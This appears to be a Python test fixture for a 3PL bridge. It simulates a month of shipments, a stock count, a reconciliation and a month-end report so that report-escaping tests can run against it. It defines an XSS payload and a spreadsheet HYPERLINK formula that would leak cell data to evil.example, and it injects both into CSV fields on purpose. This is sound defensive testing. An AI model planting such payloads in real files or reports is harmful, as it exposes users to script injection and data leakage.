"""A month for finance on the stand-in (issue 17): shipments, a stock count carrying text that must never act in a
report (``<script>`` and ``=HYPERLINK(...)`` through the 3PL's own file), the reconciliation and the month end,
every report written. Shared by the report tests here and the browser test (tests/ui/test_reports_browser.py)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone
from pathlib import Path

from tests.flows.conftest import dispatch_csv, drop, run_stock
from threepl_bridge.flows.month_end import compute
from threepl_bridge.reports import write_month_end_report

SCRIPT = "<script>alert('x')</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COUNTED = datetime(2026, 11, 20, 10, 0, tzinfo=timezone.utc)


def stock_file(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["sku", "lot", "qty_on_hand", "uom", "status", "snapshot_at"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def finance_month(world, reports: Path) -> dict:
    from threepl_bridge.flows.dispatches import DISPATCHES
    from threepl_bridge.flows.exchange import handle_file

    world.run_products(world.demo)
    picking, other = world.sell([("FURN_7800", 2)]), world.sell([("FURN_8855", 1)], ref="PO-2")
    world.run_orders(world.demo)
    drop(world, world.demo, "dispatches", "DISPATCH_1.csv", dispatch_csv(
        [f"{picking['name']},1,FURN_7800,,2,EA,,2026-11-02 10:00:00,The Poste,TP1,P1",
         f"{other['name']},1,{SCRIPT},,1,EA,,2026-11-02 10:00:00,The Poste,TP2,P2"]))
    handle_file(DISPATCHES, world.demo, "DISPATCH_1.csv", transport=world.transport(world.demo), ledger=world.ledger, client=world.odoo,
                now=datetime(2026, 11, 20, 9, 30, tzinfo=timezone.utc), options={"reports_dir": reports})
    at = "2026-11-20 01:00:00"  # the partner's local time (UTC-8): 09:00 UTC
    drop(world, world.demo, "stock", "STOCK_20261120.csv", stock_file([
        ["FURN_7800", "", "490", "EA", "ok", at],
        ["FURN_5555", HYPERLINK, "3", "EA", "ok", at],
        [SCRIPT, "", "2", "EA", "ok", at],
        [HYPERLINK, "", "1", "EA", "ok", at],
    ]))
    [stock] = run_stock(world, world.demo, now=datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc), reports=reports)
    month = compute(world.demo, world.odoo, world.ledger, date(2026, 11, 1))
    return {"picking": picking, "stock": stock, "reconciliation": [Path(p) for p in stock.details["reports"]],
            "month_end": write_month_end_report(month, reports), "report": month,
            "quality": sorted((reports / "demo3pl" / "quality").glob("*.html"))}
